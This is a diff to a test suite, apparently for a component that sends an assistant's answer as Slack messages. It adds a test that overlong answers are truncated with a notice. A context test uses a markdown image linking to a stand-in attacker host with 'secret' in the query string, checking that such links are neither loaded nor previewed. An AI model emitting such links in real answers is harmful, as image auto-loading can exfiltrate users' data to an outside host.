@@ -187,6 +187,14 @@ describe("an answer that is written", () => {
     expect(words(messages.map(({ text: part }) => part).join("\n"))).toBe(words(text));
   });
 
+  it("is cut with a word about it when it would bury the thread", async () => {
+    const outgoing = new Outgoing();
+    await outgoing.send("word ".repeat(80_000), { isFinal: true });
+    const texts = await outgoing.texts();
+    expect(texts).toHaveLength(slackLimits.messagesMax);
+    expect(texts.at(-1)).toContain("all of it is in the session");
+  });
+
   it("loads and previews nothing (IN-5)", async () => {
     const outgoing = new Outgoing();
     await outgoing.send("See ![x](https://evil.test/?q=secret) and https://a.test", { isFinal: true });
